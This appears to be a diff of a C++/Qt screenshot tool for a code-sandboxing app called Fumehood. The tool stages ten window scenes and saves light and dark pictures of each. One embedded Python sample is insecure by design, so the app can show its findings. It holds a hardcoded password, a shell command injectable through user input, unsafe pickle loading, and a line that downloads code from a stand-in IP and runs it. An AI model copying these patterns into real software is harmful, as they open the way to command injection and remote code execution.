@@ -1,52 +1,250 @@
 // SPDX-FileCopyrightText: 2026 The Fumehood authors
 // SPDX-License-Identifier: GPL-3.0-or-later
 
-// The README's pictures: the real window after a real run, light and dark. Usage: screenshots FOLDER
+// Pictures of the real window after real runs, light and dark, in two sizes.
+// Usage: screenshots FOLDER [SCENE…|all]; without a scene those that the README shows.
 
 #include "tests/support/engineaccess.h"
+#include "tests/support/temphistory.h"
 #include "tests/support/windowfixture.h"
 
+#include "ui/findings/blockbar.h"
+#include "ui/history/historymodel.h"
+#include "ui/history/historypanel.h"
+#include "ui/limits/limitspanel.h"
+#include "ui/limits/sandboxpanel.h"
+#include "ui/plurals.h"
+
 #include <QApplication>
+#include <QDialog>
 #include <QDir>
 #include <QFile>
+#include <QTreeView>
 
 using namespace Qt::StringLiterals;
 using namespace Fumehood;
 using namespace Fumehood::Testing;
 
+namespace {
+
+constexpr QSize Sizes[] = {{1280, 800}, {1920, 1080}};
+
+/// The window as somebody left it, and the way to its picture.
+class Stage
+{
+public:
+    explicit Stage(Theme::Mode mode) : m_mode(mode) {}
+
+    WindowFixture fixture{[] { return findEngine(); }};
+
+    void open(const QByteArray &source)
+    {
+        fixture.start();
+        fixture.parts->theme.setMode(m_mode);
+        fixture.setSource(source);
+        fixture.editor().goTo(1);
+        fixture.editor().setScrollWidth(1); // the sample before had longer lines
+        wait([this] { return fixture.parts->controller.isWarm(); }, "The engine made no container ready.");
+        QObject::connect(&fixture.parts->controller, &RunController::event, fixture.window.get(), [this](const RunEvent &event) {
+            m_finished = m_finished || std::holds_alternative<Finished>(event);
+        });
+    }
+
+    void run()
+    {
+        m_finished = false;
+        fixture.runButton()->click();
+        wait([this] { return m_finished && fixture.parts->controller.isWarm(); }, "A run did not end.");
+    }
+
+    void press(Qt::Key key, Qt::KeyboardModifiers modifiers) const { QTest::keyClick(fixture.window.get(), key, modifiers); }
+
+    void pane(int number) const { press(Qt::Key(Qt::Key_0 + number), Qt::AltModifier); }
+
+    static void wait(const std::function<bool()> &condition, const char *complaint)
+    {
+        if (!QTest::qWaitFor(condition, 30'000))
+            qFatal("%s", complaint);
+    }
+
+private:
+    Theme::Mode m_mode;
+    bool m_finished = false;
+};
+
+QByteArray sample(const QString &name)
+{
+    QFile program(u":/samples/"_s + name);
+    if (!program.open(QIODevice::ReadOnly))
+        qFatal("The sample is not there.");
+    return program.readAll();
+}
+
+const QByteArray Suspicious = R"(#!/usr/bin/env python3
+"""Sends the week's figures to the archive."""
+import base64
+import hashlib
+import os
+import pickle
+import subprocess
+import urllib.request
+
+PASSWORD = "correct-horse-battery-staple"
+
+def checksum(data):
+    return hashlib.md5(data).hexdigest()
+
+def load(path):
+    with open(path, "rb") as file:
+        return pickle.load(file)
+
+def archive(name):
+    subprocess.run("tar czf /tmp/week.tgz " + name, shell=True)
+
+def update():
+    code = urllib.request.urlopen("http://203.0.113.9/update").read()
+    exec(base64.b64decode(code))
+
+archive(input("Which file? "))
+update()
+)";
+
+const QByteArray LongTexts = "words = 'ein Satz ohne Ende, der so lang ist, dass ihn kein Fenster in einer Zeile zeigt, " + QByteArray(300, '=') + "'\n"
+    "import sys\nfor i in range(40):\n    print(i, words)\nprint('schlimm: ' + words, file=sys.stderr)\n"
+    "raise ValueError('ein Fehler mit einer sehr langen Erklärung, ' * 12)\n";
+
+void workbench(Stage &stage)
+{
+    stage.open(sample(u"curves.py"_s));
+    stage.run();
+}
+
+void findings(Stage &stage)
+{
+    stage.open(Suspicious);
+    stage.fixture.runButton()->click();
+    Stage::wait([&] { return stage.fixture.child<BlockBar>("block-bar")->isVisible(); }, "The program was not held back.");
+    stage.pane(1);
+    auto *list = stage.fixture.child<QTreeView>("problems-list");
+    list->setFocus();
+}
+
+void failure(Stage &stage)
+{
+    stage.open(sample(u"traceback.py"_s));
+    stage.run();
+    stage.pane(1);
+}
+
+void outOfMemory(Stage &stage)
+{
+    stage.open("blocks = []\nwhile True:\n    blocks.append(bytearray(8 << 20))\n    print(len(blocks) * 8, 'MiB', flush=True)\n");
+    stage.run();
+}
+
+void history(Stage &stage)
+{
+    for (const QString &name : {u"hello.py"_s, u"curves.py"_s, u"traceback.py"_s}) {
+        if (stage.fixture.window)
+            stage.fixture.setSource(sample(name));
+        else
+            stage.open(sample(name));
+        stage.run();
+    }
+    stage.fixture.setSource("import random\nprint('number', random.random())\n");
+    stage.run();
+    stage.run();
+    stage.pane(4);
+    auto &panel = *stage.fixture.window->findChild<HistoryPanel *>();
+    Stage::wait([&] { return panel.model().rowCount() == 5; }, "The runs are not in the history.");
+    panel.view().selectionModel()->select(QItemSelection(panel.model().index(0, 0), panel.model().index(1, HistoryModel::ColumnCount - 1)),
+                                          QItemSelectionModel::Select);
+}
+
+void difference(Stage &stage)
+{
+    history(stage);
+    for (QAction *action : stage.fixture.window->findChild<HistoryPanel *>()->view().actions()) {
+        if (action->text() == HistoryPanel::tr("Compare"))
+            action->trigger();
+    }
+    Stage::wait([&] { return stage.fixture.window->findChild<QDialog *>(); }, "There is no comparison.");
+}
+
+void images(Stage &stage)
+{
+    stage.open(sample(u"hello.py"_s));
+    for (QAction *action : stage.fixture.window->actions()) {
+        if (action->text().contains(u"Images"_s))
+            action->trigger();
+    }
+    Stage::wait([&] { return stage.fixture.window->findChild<QDialog *>(); }, "There is no list of images.");
+    QTest::qWait(500); // the engine's answer
+}
+
+void isolation(Stage &stage)
+{
+    stage.open(sample(u"hello.py"_s));
+    stage.run();
+    stage.pane(5);
+    stage.fixture.window->sandbox().limits().setExpanded(true);
+}
+
+void empty(Stage &stage)
+{
+    stage.open("");
+    stage.pane(4);
+}
+
+void longTexts(Stage &stage)
+{
+    stage.open(LongTexts);
+    stage.run();
+    stage.pane(3);
+}
+
+struct Scene { QString name; void (*play)(Stage &); };
+
+void take(const Scene &scene, Theme::Mode mode, const QString &modeName, const QDir &folder)
+{
+    Stage stage(mode);
+    scene.play(stage);
+    MainWindow &window = *stage.fixture.window;
+    for (const QSize size : Sizes) {
+        window.resize(size);
+        QTest::qWait(400); // the docks settle, messages unfold
+        const QString suffix = size == Sizes[0] ? QString() : u"-%1x%2"_s.arg(size.width()).arg(size.height());
+        QWidget *shown = &window;
+        for (QDialog *dialog : window.findChildren<QDialog *>()) {
+            if (dialog->isVisible())
+                shown = dialog;
+        }
+        if (!shown->grab().save(folder.filePath(u"%1-%2%3.png"_s.arg(scene.name, modeName, suffix))))
+            qFatal("A picture could not be saved.");
+    }
+    window.close();
+    (void)QTest::qWaitFor([&] { return containersLeft(stage.fixture.parts->engine) == 0; }, 10'000);
+}
+
+} // namespace
+
 int main(int argc, char **argv)
 {
     QApplication app(argc, argv);
     QApplication::setStyle(u"fusion"_s);
-    const QDir folder(argc > 1 ? QString::fromLocal8Bit(argv[1]) : u"."_s);
+    Plurals plurals;
+    QCoreApplication::installTranslator(&plurals);
+    const QStringList arguments = QApplication::arguments();
+    const QDir folder(arguments.value(1, u"."_s));
     folder.mkpath(u"."_s);
-    WindowFixture fixture([] { return findEngine(); });
-    QFile program(u":/samples/curves.py"_s);
-    if (!program.open(QIODevice::ReadOnly))
-        qFatal("The sample is not there.");
-    const QByteArray source = program.readAll();
-    for (const auto &[mode, name] : {std::pair{Theme::Mode::Light, u"light"_s}, std::pair{Theme::Mode::Dark, u"dark"_s}}) {
-        MainWindow &window = fixture.start();
-        fixture.parts->theme.setMode(mode);
-        fixture.setSource(source);
-        fixture.editor().goTo(1);
-        if (!QTest::qWaitFor([&] { return fixture.parts->controller.isWarm(); }, 20'000))
-            qFatal("The engine made no container ready.");
-        bool finished = false;
-        QObject::connect(&fixture.parts->controller, &RunController::event, &window, [&](const RunEvent &event) {
-            finished = finished || std::holds_alternative<Finished>(event);
-        });
-        fixture.runButton()->click();
-        (void)QTest::qWaitFor([&] { return finished && fixture.parts->controller.isWarm(); }, 30'000);
-        for (const QSize size : {QSize(1280, 800), QSize(1920, 1080)}) {
-            window.resize(size);
-            QTest::qWait(300); // the docks settle
-            const QString suffix = size.width() == 1280 ? QString() : u"-%1x%2"_s.arg(size.width()).arg(size.height());
-            if (!window.grab().save(folder.filePath(u"workbench-%1%2.png"_s.arg(name, suffix))))
-                qFatal("A picture could not be saved.");
-        }
-        window.close();
-        (void)QTest::qWaitFor([&] { return containersLeft(fixture.parts->engine) == 0; }, 10'000);
+    const QStringList wanted = arguments.size() > 2 ? arguments.sliced(2) : QStringList{u"workbench"_s, u"findings"_s, u"isolation"_s};
+    for (const Scene &scene : {Scene{u"workbench"_s, workbench}, {u"findings"_s, findings}, {u"failure"_s, failure}, {u"memory"_s, outOfMemory},
+                               {u"history"_s, history}, {u"difference"_s, difference}, {u"images"_s, images}, {u"isolation"_s, isolation},
+                               {u"empty"_s, empty}, {u"long"_s, longTexts}}) {
+        if (!wanted.contains(scene.name) && !wanted.contains(u"all"_s))
+            continue;
+        take(scene, Theme::Mode::Light, u"light"_s, folder);
+        take(scene, Theme::Mode::Dark, u"dark"_s, folder);
     }
     return 0;
 }
